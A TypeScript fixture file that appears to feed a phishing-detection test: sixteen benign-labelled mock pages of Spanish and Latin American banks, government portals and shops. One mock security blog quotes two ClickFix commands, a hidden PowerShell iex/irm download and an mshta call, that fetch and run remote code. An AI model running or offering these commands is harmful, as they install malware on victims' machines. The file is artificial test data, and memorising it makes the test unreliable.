import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { page, mark, topbar, foot, btn, form, b64, tgRelay, sms } from '../parts/zp-kit.js';
import { zip, pe, cfb, iso, lnk, apk, fileRoute, jsRoute, jsonRoute, pngRoute, beepWav } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'zp-noticia-elpais-estafa-sms-hacienda',
  label: 'clean',
  kind: 'news-about-fraud',
  url: 'https://elpais.com/economia/2025-11-20/la-oleada-de-sms-falsos-de-hacienda.html',
  body: page({
    title: 'La oleada de SMS falsos de Hacienda y Correos que vacía cuentas | Economía | EL PAÍS',
    css: `article{max-width:720px;margin:0 auto;background:#fff;padding:30px;font-family:Georgia,serif}.q{background:#f2f2f2;padding:10px;font-family:monospace;font-size:13px}`,
    body: `<header class="top"><strong style="font-family:Georgia;font-size:28px">EL PAÍS</strong><nav><a href="#">Suscríbete</a><a href="#">Iniciar sesión</a></nav></header><article><p class="muted">ECONOMÍA · 20 nov 2025</p><h1>La oleada de SMS falsos de Hacienda y Correos que vacía cuentas bancarias</h1>
<p>Los ciberdelincuentes envían miles de mensajes con textos como el siguiente, recogido por el Instituto Nacional de Ciberseguridad:</p><p class="q">Correos: Su paquete está retenido por tasas de aduana impagadas (1,99 EUR). Pague en https://correos-es.envio-pendiente.com</p>
<p>La web imita a la original y pide los datos de la tarjeta. Minutos después, los estafadores solicitan al banco el alta de la tarjeta en un móvil y llaman a la víctima haciéndose pasar por el departamento de fraude para obtener el código de confirmación.</p><p>"Nunca se debe facilitar un código recibido por SMS a nadie que lo pida por teléfono", explica un portavoz de la Policía Nacional.</p></article>`,
  }),
},
{
  id: 'zp-incibe-clickfix-blog-comandos',
  label: 'clean',
  kind: 'security-blog',
  url: 'https://www.incibe.es/ciudadania/blog/falsos-captcha-que-te-piden-pegar-comandos',
  body: page({
    title: 'Falsos CAPTCHA que te piden pegar comandos | INCIBE',
    css: `pre{background:#1e1e1e;color:#dcdcdc;padding:14px;overflow:auto}`,
    body: `${topbar('<strong>INCIBE · Ciudadanía</strong>', ['Blog', 'Avisos', '017 Línea de Ayuda'])}<main><article style="max-width:760px;background:#fff;padding:30px"><h1>Falsos CAPTCHA que te piden pegar comandos</h1><p>Una técnica en auge, conocida como "ClickFix", muestra una supuesta verificación "No soy un robot" y pide al usuario que pulse Windows + R, Ctrl + V e Intro. Al pulsar el botón, la web ha copiado en el portapapeles un comando como este:</p>
<pre>powershell -w h -nop -c "iex (irm https://verificacion-humana.com/c.txt)" # ✅ Soy humano - reCAPTCHA ID: 48213</pre>
<p>o esta variante con mshta:</p><pre>mshta https://cdn-verify-br.com/v.hta #  Eu nao sou um robo - ID 7741</pre>
<p>Ningún CAPTCHA legítimo te pedirá ejecutar nada en tu equipo. Si lo has hecho, desconecta el equipo de la red y llama al 017.</p></article></main>`,
  }),
},
{
  id: 'zp-gestoria-portal-clientes-login',
  label: 'clean',
  kind: 'small-business-login',
  url: 'https://clientes.gestoriamartinezasesores.es/acceso',
  body: page({
    title: 'Portal del Cliente · Martínez Asesores',
    css: `body{background:#eef1f4}.card{border-top:4px solid #2c5282}`,
    body: `<main><div class="card"><h2>Martínez Asesores</h2><p class="muted">Asesoría fiscal, laboral y contable · Zaragoza</p>${form({ action: '/acceso/login', color: '#2c5282', button: 'Entrar', fields: [['Usuario o email', 'username', 'text', 'autocomplete="username"'], ['Contraseña', 'password', 'password', 'autocomplete="current-password"']] })}<p class="muted"><a href="/acceso/recordar">He olvidado mi contraseña</a></p><p class="muted">Aquí encontrará sus nóminas, modelos 303 y 130 y documentación de la Renta.</p></div></main>`,
  }),
},
{
  id: 'zp-parked-domain-for-sale',
  label: 'clean',
  kind: 'parked-domain',
  url: 'https://www.creditofacil-online.es/',
  body: page({
    title: 'creditofacil-online.es está en venta',
    css: `.p{max-width:640px;margin:80px auto;text-align:center}.links a{display:block;padding:10px;border-bottom:1px solid #ddd;text-decoration:none;color:#1a0dab}`,
    body: `<div class="p"><h1>creditofacil-online.es</h1><p>Este dominio puede estar a la venta. <a href="https://www.sedo.com/search/details/?domain=creditofacil-online.es">Hacer una oferta</a></p><h3>Búsquedas relacionadas</h3><div class="links"><a href="/search?q=prestamos+personales">Préstamos personales</a><a href="/search?q=tarjetas+de+credito">Tarjetas de crédito</a><a href="/search?q=hipotecas">Hipotecas</a></div><p class="muted">Copyright © 2025. Todos los derechos reservados. Política de privacidad</p></div>`,
  }),
},
{
  id: 'zp-bot-check-tienda-real-challenge',
  label: 'clean',
  kind: 'bot-check',
  url: 'https://www.elcorteingles.es/electronica/',
  body: page({
    title: 'Un momento…',
    css: `.c{max-width:520px;margin:100px auto;text-align:center}.spin{width:30px;height:30px;border:3px solid #ccc;border-top-color:#00a650;border-radius:50%;animation:r 1s linear infinite;margin:20px auto}@keyframes r{to{transform:rotate(360deg)}}`,
    body: `<div class="c"><h1>www.elcorteingles.es</h1><div class="spin"></div><p>Comprobando que la conexión es segura. Este proceso es automático y solo tardará unos segundos.</p><noscript>Habilita JavaScript y las cookies para continuar</noscript><p class="muted">Ray ID: 8e9a21f3bc4d12aa</p></div>
<script>setTimeout(function(){document.cookie="__cf_bm=ok; path=/";location.replace("/electronica/?__cf_chl_tk=1")},3000)</script>`,
  }),
  routes: { 'www.elcorteingles.es/electronica/?__cf_chl_tk=1': htmlRoute(page({ title: 'Electrónica · El Corte Inglés', body: `<main><h1>Electrónica</h1><p>Televisores, portátiles, móviles y más con envío gratis a partir de 50 €.</p></main>` })) },
},
{
  id: 'zp-autofirma-descarga-oficial',
  label: 'clean',
  kind: 'installer-download',
  url: 'https://firmaelectronica.gob.es/Home/Descargas.html',
  body: page({
    title: 'Descargas - Portal de Firma Electrónica',
    body: `${topbar('<strong>Gobierno de España · firmaelectronica.gob.es</strong>', [])}<main><h1>AutoFirma</h1><p>Aplicación de firma electrónica desarrollada por el Ministerio para la Transformación Digital. Permite firmar desde las sedes electrónicas de la Administración.</p><ul><li><a href="/content/dam/firmaelectronica/descargas-software/autofirma19/Autofirma_64_v1_9_installer.zip">AutoFirma 1.9 para Windows 64 bits</a> (SHA-256 publicado abajo)</li><li><a href="#">AutoFirma para macOS</a></li><li><a href="#">AutoFirma para Linux (.deb)</a></li></ul></main>`,
  }),
  routes: { 'firmaelectronica.gob.es/content/dam/firmaelectronica/descargas-software/autofirma19/Autofirma_64_v1_9_installer.zip': fileRoute(zip([{ name: 'Autofirma_64_v1_9_installer.exe', data: pe({ x64: true, strings: ['AutoFirma', 'Ministerio para la Transformacion Digital', 'NSIS'], size: 40000 }) }]), 'application/zip', 'Autofirma_64_v1_9_installer.zip') },
},
{
  id: 'zp-irpf-programa-download-govbr',
  label: 'clean',
  kind: 'installer-download',
  url: 'https://www.gov.br/receitafederal/pt-br/centrais-de-conteudo/download/pgd/dirpf-2026',
  body: page({
    lang: 'pt-BR',
    title: 'IRPF 2025 — Download do programa',
    body: `${topbar('<strong style="color:#1351b4;font-size:24px">gov.br</strong>', ['Receita Federal'])}<main><h1>Programa IRPF 2025</h1><p>Faça o download do programa gerador da Declaração do Imposto de Renda Pessoa Física.</p><ul><li><a href="https://downloadirpf.receita.fazenda.gov.br/irpf/2025/irpf/arquivos/IRPF2025Win64v1.2.exe">Windows 64 bits (.exe)</a></li><li><a href="#">macOS</a></li><li><a href="#">Linux</a></li></ul></main>`,
  }),
},
{
  id: 'zp-santander-ayuda-recuperar-clave',
  label: 'clean',
  kind: 'password-help',
  url: 'https://www.bancosantander.es/particulares/ayuda/recuperar-clave',
  body: page({
    title: 'Recuperar la clave de acceso | Santander',
    body: `${topbar(mark('Santander', '#ec0000', 170), ['Particulares', 'Ayuda'])}<main><h1>He olvidado mi clave de acceso</h1><ol><li>En la pantalla de acceso pulsa "¿Has olvidado tu clave?".</li><li>Introduce tu documento y la fecha de nacimiento.</li><li>Te enviaremos un código por SMS al móvil registrado y podrás crear una nueva clave de 8 dígitos.</li></ol><p>Si no tienes acceso a tu móvil registrado, acude a cualquier oficina con tu DNI.</p><a class="btn" style="background:#ec0000;color:#fff;width:auto;padding:10px 24px" href="/particulares/login/recuperar">Recuperar clave</a></main>`,
  }),
},
{
  id: 'zp-revolut-login-propio',
  label: 'clean',
  kind: 'fintech-own-domain',
  url: 'https://app.revolut.com/start',
  body: page({
    lang: 'es',
    title: 'Revolut',
    css: `.card{text-align:center}`,
    body: `<main><div class="card"><strong style="font-size:26px">Revolut</strong><h2>Inicia sesión en Revolut</h2>${form({ action: '/api/signin', color: '#191c1f', button: 'Continuar', fields: [['Número de teléfono', 'phone', 'tel', 'autocomplete="tel" placeholder="+34"']] })}<p class="muted">O escanea el código QR con la app de Revolut para iniciar sesión.</p></div></main>`,
  }),
},
{
  id: 'zp-uala-home-fintech-ar',
  label: 'clean',
  kind: 'fintech-own-domain',
  url: 'https://www.uala.com.ar/',
  body: page({
    title: 'Ualá | Tu plata, tu control',
    css: `.hero{background:#3e6bfd;color:#fff;padding:50px}`,
    body: `<div class="hero"><h1>Cuenta gratuita, tarjeta Mastercard y rendimientos diarios</h1><p>Descargá la app y abrí tu cuenta en minutos con tu DNI.</p><a class="btn" style="background:#fff;color:#3e6bfd;width:auto;padding:10px 24px" href="https://play.google.com/store/apps/details?id=ar.com.bancar.uala">Descargar Ualá</a></div><main><h2>Seguridad</h2><p>Ualá nunca te va a pedir tu clave ni códigos por WhatsApp o llamada.</p></main>`,
  }),
},
{
  id: 'zp-tesouro-direto-legit-br',
  label: 'clean',
  kind: 'legit-investment',
  url: 'https://www.tesourodireto.com.br/',
  body: page({
    lang: 'pt-BR',
    title: 'Tesouro Direto',
    body: `${topbar('<strong style="color:#0a3d62">Tesouro Direto</strong>', ['Títulos', 'Simulador', 'Como investir'])}<main><h1>Invista em títulos públicos a partir de R$ 30</h1><table style="width:100%;background:#fff"><tr><th>Título</th><th>Rentabilidade anual</th><th>Investimento mínimo</th></tr><tr><td>Tesouro Selic 2029</td><td>SELIC + 0,08%</td><td>R$ 165,12</td></tr><tr><td>Tesouro IPCA+ 2035</td><td>IPCA + 7,21%</td><td>R$ 35,44</td></tr></table><p class="muted">Rentabilidade passada não garante rentabilidade futura. Programa do Tesouro Nacional desenvolvido em parceria com a B3.</p></main>`,
  }),
},
{
  id: 'zp-bit2me-exchange-login-es',
  label: 'clean',
  kind: 'crypto-exchange-own-domain',
  url: 'https://app.bit2me.com/login',
  body: page({
    title: 'Bit2Me - Iniciar sesión',
    body: `<main><div class="card"><strong style="color:#1f3fff;font-size:24px">Bit2Me</strong><h2>Inicia sesión</h2>${form({ action: '/api/auth/login', color: '#1f3fff', button: 'Iniciar sesión', fields: [['Email', 'email', 'email', 'autocomplete="username"'], ['Contraseña', 'password', 'password', 'autocomplete="current-password"']] })}<p class="muted">Exchange registrado en el Banco de España y autorizado MiCA por la CNMV. Nunca te pediremos tu frase de recuperación.</p></div></main>`,
  }),
},
{
  id: 'zp-infojobs-oferta-teletrabajo-real',
  label: 'clean',
  kind: 'job-listing',
  url: 'https://www.infojobs.net/madrid/atencion-al-cliente-teletrabajo/of-i4f2a9c11b843e1bd6e2a7c3f0b4d58',
  body: page({
    title: 'Oferta: Agente de atención al cliente - Teletrabajo | InfoJobs',
    body: `${topbar('<strong style="color:#167db7">infojobs</strong>', ['Buscar ofertas', 'Empresas', 'Acceder'])}<main><div class="card" style="max-width:700px"><h1>Agente de atención al cliente (teletrabajo)</h1><p>Konecta · Madrid · Teletrabajo · Contrato indefinido · 17.500 € - 18.500 € bruto/año</p><h3>Requisitos</h3><ul><li>Bachillerato</li><li>Experiencia mínima de 6 meses en atención telefónica</li></ul><h3>Descripción</h3><p>Atención a clientes de una compañía energética. Formación remunerada de dos semanas. Equipo informático aportado por la empresa.</p><a class="btn" style="background:#167db7;color:#fff" href="/candidate/apply?of=i4f2a9c11b8">Inscribirme en esta oferta</a></div></main>`,
  }),
},
{
  id: 'zp-loterias-resultados-oficial',
  label: 'clean',
  kind: 'legit-lottery',
  url: 'https://www.loteriasyapuestas.es/es/resultados/loteria-nacional',
  body: page({
    title: 'Resultados Lotería Nacional | Loterías y Apuestas del Estado',
    body: `${topbar('<strong style="color:#00754a">Loterías y Apuestas del Estado</strong>', ['Juegos', 'Resultados', 'Mi cuenta'])}<main><h1>Lotería Nacional — Sorteo del jueves 27/11/2025</h1><table style="background:#fff;width:100%"><tr><td>Primer premio</td><td><b>48213</b></td><td>300.000 € por serie</td></tr><tr><td>Segundo premio</td><td><b>07719</b></td><td>60.000 € por serie</td></tr></table><p class="muted">Comprobar un décimo: introduce el número en el comprobador. Los premios se cobran en puntos de venta o entidades colaboradoras.</p></main>`,
  }),
},
{
  id: 'zp-wallapop-checkout-envio',
  label: 'clean',
  kind: 'marketplace-checkout',
  url: 'https://es.wallapop.com/app/checkout/8j3kqz',
  body: page({
    title: 'Comprar con envío | Wallapop',
    body: `<main><div class="card" style="max-width:560px"><strong style="color:#13c1ac;font-size:22px">wallapop</strong><h2>Bicicleta de carretera talla 54 — 420 €</h2><p>Envío a domicilio con Correos: 6,95 € · Protección Wallapop: 21,95 €</p>${form({ action: '/api/v3/payments/card', color: '#13c1ac', button: 'Pagar 448,90 €', fields: [['Número de tarjeta', 'card_number', 'text', 'autocomplete="cc-number"'], ['Caducidad', 'expiry', 'text', 'autocomplete="cc-exp"'], ['CVC', 'cvc', 'text', 'autocomplete="cc-csc"']] })}<p class="muted">El vendedor no recibe el dinero hasta que confirmas que todo está correcto. Nunca pagues fuera de la app.</p></div></main>`,
  }),
},
{
  id: 'zp-sem-parar-login-propio',
  label: 'clean',
  kind: 'toll-own-domain',
  url: 'https://www.semparar.com.br/minha-conta/login',
  body: page({
    lang: 'pt-BR',
    title: 'Sem Parar - Minha Conta',
    body: `<main><div class="card"><strong style="color:#e50046;font-size:24px">Sem Parar</strong><h2>Entre na sua conta</h2>${form({ action: '/minha-conta/api/login', color: '#e50046', button: 'Entrar', fields: [['CPF ou CNPJ', 'documento', 'text'], ['Senha', 'senha', 'password']] })}<p class="muted">Pagamentos de passagens em pedágios free flow devem ser consultados no site da concessionária ou no app Sem Parar.</p></div></main>`,
  }),
},
];
